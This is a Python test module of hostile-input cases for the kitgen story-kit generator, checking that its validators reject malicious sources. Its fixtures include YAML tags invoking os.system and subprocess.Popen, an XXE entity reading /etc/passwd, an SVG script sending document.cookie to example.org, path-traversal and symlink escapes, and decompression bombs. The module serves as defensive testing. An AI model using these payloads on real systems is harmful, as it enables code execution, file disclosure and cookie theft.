"""The hostile inputs: what attackers, broken tools and tired translators put into a kit's sources.

Every case must end in one located error line and exit 1 (see :mod:`tests.hostile.harness`).
"""

from __future__ import annotations

import base64
import os
import shutil
import struct
import wave
import zlib
from pathlib import Path

from tests.hostile.harness import BYE, KIT, PO, STORY, WAVE, Case, append, line_of, replace

SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1600 900">\n'
ALIAS_BOMB = "".join(
    f"{name}: &{name} [{', '.join([f'*{prev}'] * 10 if prev else ['lol'] * 10)}]\n"
    for prev, name in zip([None, "a", "b", "c", "d", "e", "f", "g", "h"], ["a", "b", "c", "d", "e", "f", "g", "h", "i"])
)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` pixels (the data is a few bytes)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def _svg(body: str, head: str = SVG_HEAD, line: int | None = 0):
    """Replace the scene SVG by ``head`` + ``body``; the error is on the body's first line, or on ``line`` (None: anywhere)."""
    def change(root: Path) -> int | None:
        (root / WAVE).write_text(head + body + "</svg>\n", encoding="utf-8")
        return head.count("\n") + 1 if line == 0 else line
    return change


def _outside_png(root: Path) -> Path:
    """A PNG outside the project (beside the project folder), as an attacker would name it."""
    target = root.parent / "outside-secret.png"
    shutil.copyfile(root / BYE, target)
    return target


def _story_sub(old: str, new: str):
    return lambda root: replace(root, STORY, old, new)


def _po_sub(old: str, new: str):
    return lambda root: replace(root, PO, old, new)


def _kit_sub(old: str, new: str):
    return lambda root: replace(root, KIT, old, new)


def _symlink_illustration(root: Path) -> int:
    link = root / "sources/stories/tiny/illustrations/escape.png"
    os.symlink(_outside_png(root), link)
    return replace(root, STORY, "file: illustrations/bye.png", "file: illustrations/escape.png")


def _write(root: Path, relative: Path, data: bytes, line: int | None = 0) -> int | None:
    """Overwrite a file; returns the story.yaml line naming it (or ``line`` when given)."""
    (root / relative).write_bytes(data)
    return line_of(root, STORY, relative.name) if line == 0 else line


def _fifo_kit(root: Path) -> None:
    os.mkfifo(root / "sources/kits/evil.yaml")


def _devzero_kit(root: Path) -> None:
    os.symlink("/dev/zero", root / "sources/kits/zero.yaml")


def _huge_story(size: int):
    def change(root: Path) -> int:
        path = root / STORY
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("  summary: ", "  summary: " + "x" * size + " ", 1), encoding="utf-8")
        return 1
    return change


def _latin1_title(root: Path) -> int:
    line = line_of(root, STORY, "title: Pip Says Hello")
    path = root / STORY
    path.write_bytes(path.read_bytes().replace(b"title: Pip Says Hello", "title: Pip Says Hallå".encode("latin-1"), 1))
    return line


def _big_summary(root: Path) -> int:
    old = "  summary: Pip the robot says hello and reminds us to keep passwords secret."
    return replace(root, STORY, old, "  summary: " + "Pip." * 750_000)


def _short_wav(root: Path) -> None:
    with wave.open(str(root / "short.wav"), "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(48000)
        out.writeframes(b"\0\0" * 4800)


def _project_voice(text: str):
    def change(root: Path) -> int:
        (root / "voices").mkdir()
        (root / "voices" / "en.yaml").write_text(text, encoding="utf-8")
        return text.count("\n")
    return change


def _po_raw(old: bytes, new: bytes):
    def change(root: Path) -> int:
        path = root / PO
        data = path.read_bytes()
        assert old in data
        path.write_bytes(data.replace(old, new, 1))
        return data[: data.index(old)].count(b"\n") + 1
    return change


def _embedded_bomb(root: Path) -> int:
    data = base64.b64encode(png_claiming(60_000, 60_000)).decode("ascii")
    return _svg(f'<image width="10" height="10" href="data:image/png;base64,{data}"/>\n')(root)


def _absolute_href(root: Path) -> int:
    return _svg(f'<image width="100" height="100" href="{_outside_png(root)}"/>\n')(root)


def _file_href(root: Path) -> int:
    return _svg(f'<image width="100" height="100" xlink:href="file://{_outside_png(root)}"/>\n')(root)


def _icon_svg(root: Path) -> int:
    (root / "sources/stories/tiny/icons").mkdir()
    (root / "sources/stories/tiny/icons/evil.svg").write_text(
        SVG_HEAD + '<script type="text/javascript">fetch("https://example.org/" + document.cookie)</script>\n</svg>\n', encoding="utf-8")
    replace(root, STORY, "    icon: lock", "    icon: icons/evil.svg")
    return 2


P = "sources/stories/tiny/story.yaml"
K = "sources/kits/tiny.yaml"
H = "sources/stories/tiny/locales/hy.po"
W = "sources/stories/tiny/illustrations/wave.svg"

CASES: list[Case] = [
    # -- YAML: only plain data, bounded ------------------------------------------------------
    Case("yaml-python-tag-scalar", "yaml", _story_sub("  licence: CC-BY-4.0", "  licence: !!python/object/apply:os.system ['echo owned']"),
         P, "tag '!!python/object/apply:os.system' is not allowed"),
    Case("yaml-python-tag-list-item", "yaml", _story_sub("    - Keep passwords secret.", "    - !!python/name:os.system Keep passwords secret."),
         P, "tag '!!python/name:os.system' is not allowed"),
    Case("yaml-custom-tag", "yaml", _story_sub("  title: Pip Says Hello", "  title: !include ../../../secrets.yaml"),
         P, "tag '!include' is not allowed"),
    Case("yaml-self-alias", "yaml", lambda root: append(root, STORY, "loop: &loop\n  - *loop\n"),
         P, "an alias refers to the list or mapping that contains it (a loop)"),
    Case("yaml-alias-bomb", "yaml", lambda root: append(root, STORY, ALIAS_BOMB), P, "expands to more than 100,000 values"),
    Case("yaml-deep-nesting", "yaml", lambda root: append(root, STORY, "deep: " + "[" * 60 + "]" * 60 + "\n"),
         P, "nested more than 48 levels deep"),
    Case("yaml-50mb-summary", "yaml", _huge_story(50_000_000), P,
         "over the limit of 4,000,000; split it up, or raise the limit with the environment variable KITGEN_MAX_SOURCE_BYTES",
         args=("guide", "--locale", "en")),
    Case("yaml-size-limit-from-environment", "yaml", lambda root: (append(root, STORY, "# " + "padding " * 40_000 + "\n"), 1)[1],
         P, "over the limit of 200,000", env={"KITGEN_MAX_SOURCE_BYTES": "200000"}),
    Case("yaml-duplicate-key", "yaml", lambda root: replace(root, STORY, '  version: "1.0"', '  version: "1.0"\n  title: Pip Again') + 1,
         P, "duplicate key 'title'"),
    Case("yaml-not-utf8", "yaml", _latin1_title, P, "file is not valid UTF-8"),
    Case("yaml-bad-number-tag", "yaml", _story_sub("  age: {min: 7, max: 10}", "  age: {min: !!int seven, max: 10}"),
         P, "'seven' cannot be read as a whole number (!!int)"),
    # -- schema: every declared limit at check time --------------------------------------------
    Case("schema-3mb-summary", "schema", _big_summary, P, "'summary' is too long (3,000,000 characters, at most 800); shorten it",
         args=("guide", "--locale", "en")),
    Case("schema-title-over-hard-maximum", "schema", _story_sub("  title: Pip Says Hello", "  title: " + "x" * 128),
         P, "'title' is too long (128 characters, at most 120)"),
    Case("schema-unknown-key", "schema", _story_sub("  title: Pip Says Hello", "  titel: Pip Says Hello"),
         P, "unknown key 'titel'; did you mean 'title'?"),
    # -- paths: nothing outside the story folder -----------------------------------------------
    Case("path-illustration-absolute", "paths", _story_sub("file: illustrations/bye.png", "file: /etc/passwd"),
         P, "is outside the story folder"),
    Case("path-illustration-symlink-out", "paths", _symlink_illustration, P, "is outside the story folder"),
    Case("path-icon-outside", "paths", _story_sub("    icon: hand", "    icon: ../../../../../etc/icon.svg"),
         P, "icon '../../../../../etc/icon.svg' is outside the story folder"),
    Case("path-kit-is-a-fifo", "paths", _fifo_kit, "sources/kits/evil.yaml", "file is not a regular file", lined=False),
    Case("path-kit-is-dev-zero", "paths", _devzero_kit, "sources/kits/zero.yaml", "file is not a regular file", lined=False),
    # -- images --------------------------------------------------------------------------------
    Case("image-truncated-png", "images", lambda root: _write(root, BYE, (root / BYE).read_bytes()[:80]),
         P, "illustration 'bye.png' is corrupt or truncated"),
    Case("image-pixel-bomb-png", "images", lambda root: _write(root, BYE, png_claiming(60_000, 60_000)), P, "too large to decode safely"),
    Case("image-text-named-png", "images", lambda root: _write(root, BYE, b"not a picture\n"), P, "is not a readable PNG or JPEG image"),
    # -- SVG: one sanitizer before either renderer ---------------------------------------------
    Case("svg-absolute-href", "svg", _absolute_href, W,
         "an SVG may only refer to its own elements (#id) or to PNG and JPEG files inside the story folder"),
    Case("svg-absolute-href-video", "svg", _absolute_href, W, "no absolute paths, file:, http: or other addresses",
         args=("video", "--locale", "en")),
    Case("svg-absolute-href-cards", "svg", _absolute_href, W, "no absolute paths, file:, http: or other addresses",
         args=("cards", "--locale", "en")),
    Case("svg-file-url", "svg", _file_href, W, "refers to 'file://"),
    Case("svg-dotdot-outside", "svg", _svg('<image width="10" height="10" href="../../../../outside-secret.png"/>\n'),
         W, "which is outside the story folder"),
    Case("svg-script", "svg", _svg("<script>alert(document.domain)</script>\n"), W, "contains <script>, which may run code"),
    Case("svg-event-attribute", "svg", _svg('<rect width="10" height="10" onclick="alert(1)"/>\n'), W, "has the event attribute 'onclick'"),
    Case("svg-external-entity", "svg",
         _svg("<text>&xxe;</text>\n", '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + SVG_HEAD, line=1),
         W, "declares XML entities (<!ENTITY)"),
    Case("svg-use-bomb", "svg", _svg('<g id="a0">' + "<rect/>" * 10 + "</g>\n" + "".join(
        f'<g id="a{i}">' + f'<use href="#a{i - 1}"/>' * 10 + "</g>\n" for i in range(1, 9)), line=None), W, "draws more than 250,000 elements"),
    Case("svg-css-url-out", "svg", _svg('<rect width="10" height="10" style="fill: url(https://example.org/paint.svg#p)"/>\n'),
         W, "in a url(); an SVG may only use url(#id)"),
    Case("svg-embedded-pixel-bomb", "svg", _embedded_bomb, W, "megapixels"),
    Case("svg-icon-with-script", "svg", _icon_svg, "sources/stories/tiny/icons/evil.svg", "contains <script>"),
    # -- PO: strict, whatever Babel would tolerate ---------------------------------------------
    Case("po-unterminated-msgstr", "po", _po_sub('msgstr "Պիպը բարևում է"', 'msgstr "Պիպը բարևում է'), H, "unterminated string"),
    Case("po-unknown-escape", "po", _po_sub('msgstr "Պիպը բարևում է"', 'msgstr "Պիպը\\qբարևում է"'), H, "unknown escape '\\q'"),
    Case("po-unescaped-quote", "po", _po_sub('msgstr "Պիպը բարևում է"', 'msgstr "Պիպը "բարևում" է"'), H, "text after the closing quote"),
    Case("po-pasted-text", "po", lambda root: replace(root, PO, 'msgstr "Պիպը բարևում է"\n', 'msgstr "Պիպը բարևում է"\nՊիպը բարևում է\n') + 1,
         H, "unknown keyword 'Պիպը'"),
    Case("po-duplicate-entry", "po", lambda root: append(root, PO, '\nmsgctxt "story/title"\nmsgid "Pip Says Hello"\nmsgstr "Պիպ"\n') + 2,
         H, "a second entry for msgctxt 'story/title'"),
    Case("po-translation-over-hard-maximum", "po",
         lambda root: replace(root, PO, 'msgstr "Պիպը բարևում է"', 'msgstr "' + "Պիպը բարևում է " * 10 + '"') - 1,
         H, "translation of 'story/title' is 150 characters, over the maximum of 120"),
    Case("po-broken-plural-header", "po", _po_sub("nplurals=2; plural=(n > 1);", "nplurals=two; plural=(n > 1);"),
         H, "the catalog header cannot be read"),
    Case("po-wrong-plural-forms-strict", "po", _po_sub("nplurals=2; plural=(n > 1);", "nplurals=2; plural=(n != 1);"), H,
         "does not match CLDR's plural rule for 'hy'; write \"Plural-Forms: nplurals=2; plural=(n > 1);\\n\"", args=("check", "--strict")),
    Case("po-not-utf8", "po", _po_raw("Պիպը բարևում է".encode(), b"\xff\xfe broken"), H, "file is not valid UTF-8"),
    Case("po-raw-control-character", "po", _po_raw("Պիպը բարևում է".encode(), "Պիպը\x1b[31m".encode()), H, "control character U+001B"),
    Case("po-over-size-limit", "po", lambda root: (append(root, PO, "# " + "x" * 4_100_000 + "\n"), 1)[1], H, "catalog is 4,"),
    # -- text ----------------------------------------------------------------------------------
    Case("text-nul-character", "text", _story_sub("  title: Pip Says Hello", '  title: "Pip Says Hello\\0"'), P, "control character U+0000"),
    Case("text-lone-surrogate", "text", _story_sub("  title: Pip Says Hello", '  title: "Pip \\ud800 Hello"'), P, "invalid Unicode character escape"),
    Case("text-no-glyph", "text", _story_sub("  title: Pip Says Hello", "  title: Pip Says 你好"), P, "你"),
    # -- voices --------------------------------------------------------------------------------
    Case("voice-profile-python-tag", "voices", _project_voice("engine: espeak\nrate: !!python/object/apply:os.system ['id']\n"),
         "voices/en.yaml", "tag '!!python/object/apply:os.system' is not allowed"),
    Case("voice-profile-unknown-engine", "voices", _project_voice("engine: /bin/sh\n"), "voices/en.yaml", "'engine' must be one of"),
    Case("voice-kit-override-out-of-range", "voices", lambda root: append(root, KIT, "voices:\n  en:\n    rate: 100000\n") + 2,
         K, "'rate' must be at most"),
    # -- video options -------------------------------------------------------------------------
    Case("video-music-not-audio", "video", lambda root: _write(root, Path("notes.txt"), b"la la la\n", None), "notes.txt",
         "music file 'notes.txt' is not audio", args=("video", "--locale", "en", "--music", "notes.txt"), lined=False),
    Case("video-music-too-short", "video", lambda root: (_short_wav(root), None)[1], "short.wav", "has less than",
         args=("video", "--locale", "en", "--music", "short.wav"), lined=False),
    # -- kits ----------------------------------------------------------------------------------
    Case("kit-python-tag", "kits", _kit_sub("name: Tiny", "name: !!python/object/new:subprocess.Popen [['id']]"),
         K, "tag '!!python/object/new:subprocess.Popen' is not allowed"),
    Case("kit-unknown-story", "kits", _kit_sub("stories: [tiny]", "stories: [tiny, ../../etc]"), K, "'../../etc' is not a valid id"),
    Case("kit-locale-path", "kits", _kit_sub("locales: [en, hy]", "locales: [en, ../../../tmp/x]"), K, "is not a BCP 47 code"),
    Case("kit-branding-over-maximum", "kits", _kit_sub("  en: Tiny kit", "  en: " + "TinyKit" * 80),
         K, "is too long (560 characters, at most 500)"),
    Case("kit-link-not-https", "kits", lambda root: append(root, KIT, "links:\n  base_url: \"javascript:alert(1)\"\n") + 1,
         K, "must be an https:// address"),
    # -- interrupts and concurrency ------------------------------------------------------------
    Case("interrupt-output-held-by-another-build", "interrupts", lambda root: None, "output", "another kitgen build is writing to",
         args=("cards", "--locale", "en"), lined=False, hold_output=True),
]
